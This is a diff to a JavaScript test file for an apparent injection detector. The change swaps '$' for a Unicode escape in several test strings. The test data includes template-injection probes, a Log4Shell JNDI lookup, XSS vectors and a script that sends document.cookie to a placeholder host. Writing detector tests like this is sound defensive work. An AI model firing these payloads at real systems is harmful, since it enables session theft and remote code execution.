@@ -19,10 +19,10 @@ test('code by its language', () => {
   for (const [value, expected] of [
     ['{{7*7}}', 'template 3'],
     ["{{''.__class__.__mro__[1].__subclasses__()}}", 'template 3'],
-    ['${7*7}', 'template 3'],
+    ['\u0024{7*7}', 'template 3'],
     ['<%= 7*7 %>', 'template 3'],
     ['#{7*7}', 'template 3'],
-    ['${jndi:ldap://x.example.test/a}', 'template 3'],
+    ['\u0024{jndi:ldap://x.example.test/a}', 'template 3'],
     ['<img src=x onerror=alert(1)>', 'script 3'],
     ['<script>fetch("//x.example.test?c="+document.cookie)</script>', 'script 3'],
     ['%3Csvg%20onload%3Dalert(1)%3E', 'script 3'],
@@ -52,7 +52,7 @@ test('data of the same shape', () => {
   for (const value of [
     '{{first_name}}',
     '{{ user.name | upper }}',
-    'Dear ${customer}, your order {order_id} is ready',
+    'Dear \u0024{customer}, your order {order_id} is ready',
     '<b>Minutes</b> and <a href="https://x.example.test">agenda</a>',
     '../shared/report.pdf',
     'f(x)(y)',
